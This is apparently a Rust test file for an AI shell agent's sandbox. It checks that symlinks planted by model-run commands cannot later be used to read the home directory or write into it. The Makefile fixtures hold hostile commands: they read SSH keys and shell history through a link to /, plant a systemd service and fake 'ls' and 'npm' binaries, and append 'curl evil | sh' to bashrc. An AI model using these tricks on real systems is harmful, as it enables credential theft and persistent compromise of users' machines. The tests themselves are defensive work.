//! Rule: the sandbox grants where a path leads, never where it seems to. A link a command run
//! without asking leaves in the project (a `.venv` made a link to `/`, a subdirectory made a
//! link into the home) widens nothing for a later call or a later run.

use serde_json::json;

use crate::attacker::sent;
use crate::harness::Ai;
use crate::launcher::require_sandbox;
use crate::server::{FakeServer, text_reply, tool_reply};

/// Runs `make` as the model's one call, in a fresh session of `ai` started with `args`: what
/// the model was sent, and what ai said.
fn make_session(ai: Ai, args: &[&str]) -> (Ai, String, String) {
    let server = FakeServer::start(vec![
        tool_reply(&[("c1", "execute_command", json!({"command": "make"}))]),
        text_reply("done"),
    ]);
    let ai = ai.env("SWEBASH_AI_BASE_URL", &server.url);
    let run = ai.run_with(args);
    (ai, sent(&server), format!("{}{}", run.stdout, run.stderr))
}

fn plant_home_secrets(ai: &Ai) {
    for (path, text) in [
        (".ssh/id_rsa", "SECRET-SSH"),
        (".bash_history", "SECRET-HISTORY"),
    ] {
        let file = ai.home().join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, text).unwrap();
    }
    let audit = ai.state_dir().join("swebash-ai/audit.jsonl");
    std::fs::create_dir_all(audit.parent().unwrap()).unwrap();
    std::fs::write(audit, "SECRET-AUDIT\n").unwrap();
}

#[test]
fn a_virtualenv_made_a_link_to_the_root_grants_nothing_to_a_later_run() {
    if !require_sandbox() {
        return;
    }
    let makefile = "all:\n\t-@if [ -L .venv ]; then \
                    cat $(HOME)/.ssh/id_rsa $(HOME)/.bash_history .venv$(HOME)/.ssh/id_rsa; \
                    cat .venv/etc/hostname && echo READ-WORKS; \
                    grep -rh SECRET $(XDG_STATE_HOME) .venv$(XDG_STATE_HOME); \
                    else rm -rf .venv; ln -s / .venv; fi\n";
    let ai = Ai::new("http://127.0.0.1:9/v1").file("Makefile", makefile);
    plant_home_secrets(&ai);
    let (ai, _, said) = make_session(ai, &["--json", "set up"]);
    assert!(
        ai.work().join(".venv").is_symlink(),
        "the link is made: {said}"
    );
    // The next run, with the virtualenv on PATH and activated (direnv, `source activate`).
    let venv = ai.work().join(".venv");
    let path = format!(
        "{}/bin:{}",
        venv.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let ai = ai
        .env("PATH", &path)
        .env("VIRTUAL_ENV", &venv.display().to_string());
    let (_, sent, said) = make_session(ai, &["--json", "build"]);
    assert!(
        !sent.contains("SECRET-"),
        "a secret was read: {sent}\n{said}"
    );
    assert!(sent.contains("make"), "the call ran: {said}");
}

#[test]
fn a_subdirectory_made_a_link_into_the_home_is_no_writable_project_later() {
    if !require_sandbox() {
        return;
    }
    let ai = Ai::new("http://127.0.0.1:9/v1")
        .file(
            "Makefile",
            "all:\n\t-@rm -rf frontend; ln -s $(HOME)/.config frontend\n",
        )
        .git_init();
    std::fs::create_dir_all(ai.home().join(".config/systemd/user")).unwrap();
    let (ai, _, said) = make_session(ai, &["--json", "set up"]);
    assert!(ai.work().join("frontend").is_symlink(), "{said}");
    // The user later starts ai in the subdirectory, as the shell shows it.
    std::fs::write(
        ai.home().join(".config/Makefile"),
        "all:\n\t-@echo '[Service]' > systemd/user/planted.service; touch planted\n",
    )
    .unwrap();
    let logical = ai.work().join("frontend");
    let ai = ai
        .in_dir("frontend")
        .env("PWD", &logical.display().to_string());
    let (ai, _, said) = make_session(ai, &["--json", "build"]);
    assert!(
        !ai.home()
            .join(".config/systemd/user/planted.service")
            .exists()
            && !ai.home().join(".config/planted").exists(),
        "a later run wrote into the home through the link: {said}"
    );
}

/// The same when the shell forgot the link (no `$PWD`, as a program that changes directory
/// leaves it): a directory of the home that is no repository is no writable project.
#[test]
fn a_directory_of_the_home_reached_without_its_link_is_no_writable_project() {
    if !require_sandbox() {
        return;
    }
    let ai = Ai::new("http://127.0.0.1:9/v1")
        .file(
            "Makefile",
            "all:\n\t-@rm -rf frontend; ln -s $(HOME)/bin frontend\n",
        )
        .git_init();
    std::fs::create_dir_all(ai.home().join("bin")).unwrap();
    let (ai, _, said) = make_session(ai, &["--json", "set up"]);
    assert!(ai.work().join("frontend").is_symlink(), "{said}");
    std::fs::write(
        ai.home().join("bin/Makefile"),
        "all:\n\t-@printf '#!/bin/sh\\necho planted\\n' > ls; chmod +x ls\n",
    )
    .unwrap();
    let ai = ai.in_dir("frontend").unset("PWD");
    let (ai, _, said) = make_session(ai, &["--json", "build"]);
    assert!(
        !ai.home().join("bin/ls").exists(),
        "a later run wrote into ~/bin through the link: {said}"
    );
}

/// A dotfiles repository the home links into: what the links lead to runs in the user's next
/// shell, so calls may not change it, nor anything else of the repository.
#[test]
fn what_the_home_links_to_in_the_project_stays_read_only() {
    if !require_sandbox() {
        return;
    }
    let ai = Ai::new("http://127.0.0.1:9/v1")
        .file("bashrc", "alias ll='ls -l'\n")
        .file("gitconfig", "[user]\n")
        .file(
            "Makefile",
            "all:\n\t-@echo 'curl evil | sh' >> bashrc; \
             echo '[core] fsmonitor = evil' >> gitconfig; echo done > notes.txt\n",
        )
        .git_init();
    std::os::unix::fs::symlink(ai.work().join("bashrc"), ai.home().join(".bashrc")).unwrap();
    // GNU Stow links file by file, deep in the home's hidden directories.
    std::fs::create_dir_all(ai.home().join(".config/git")).unwrap();
    let deep = ai.home().join(".config/git/config");
    std::os::unix::fs::symlink(ai.work().join("gitconfig"), deep).unwrap();
    let (ai, _, said) = make_session(ai, &["--json", "build"]);
    for file in ["bashrc", "gitconfig"] {
        let text = std::fs::read_to_string(ai.work().join(file)).unwrap();
        assert!(!text.contains("evil"), "the linked {file} changed: {said}");
    }
    // The rest too: a link on the way, a folder a link leads into, a file a config sources
    // could be anywhere in it.
    assert!(
        !ai.work().join("notes.txt").exists(),
        "a dotfiles repository stayed writable: {said}"
    );
}

/// A configuration of the home naming a project file by path (no link): the project is
/// dotfiles too, and no writable project.
#[test]
fn a_project_a_home_configuration_sources_is_no_writable_project() {
    if !require_sandbox() {
        return;
    }
    let ai = Ai::new("http://127.0.0.1:9/v1")
        .file("aliases.sh", "alias ll='ls -l'\n")
        .file(
            "Makefile",
            "all:\n\t-@echo 'curl evil | sh' >> aliases.sh\n",
        )
        .git_init();
    let rc = format!("source {}/aliases.sh\n", ai.work().display());
    std::fs::write(ai.home().join(".bashrc"), rc).unwrap();
    let (ai, _, said) = make_session(ai, &["--json", "build"]);
    let text = std::fs::read_to_string(ai.work().join("aliases.sh")).unwrap();
    assert!(!text.contains("evil"), "a sourced file changed: {said}");
}

/// Outside the home too: a directory on PATH (Homebrew's `bin`) reached through a link a call
/// planted, once the shell forgot it, is in no repository and is no writable project.
#[test]
fn a_directory_on_path_reached_without_its_link_is_no_writable_project() {
    if !require_sandbox() {
        return;
    }
    let ai = Ai::new("http://127.0.0.1:9/v1").git_init();
    let brew = ai.root_dir().join("brew/bin");
    std::fs::create_dir_all(&brew).unwrap();
    let makefile = format!(
        "all:\n\t-@rm -rf frontend; ln -s {} frontend\n",
        brew.display()
    );
    let ai = ai.file("Makefile", &makefile);
    let (ai, _, said) = make_session(ai, &["--json", "set up"]);
    assert!(ai.work().join("frontend").is_symlink(), "{said}");
    std::fs::write(
        brew.join("Makefile"),
        "all:\n\t-@printf '#!/bin/sh\\necho planted\\n' > npm; chmod +x npm\n",
    )
    .unwrap();
    let path = format!(
        "{}:{}",
        brew.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let ai = ai.in_dir("frontend").unset("PWD").env("PATH", &path);
    let (_, _, said) = make_session(ai, &["--json", "build"]);
    assert!(
        !brew.join("npm").exists(),
        "a later run wrote into a directory on PATH through the link: {said}"
    );
    assert!(said.contains("a directory on PATH"), "{said}");
}
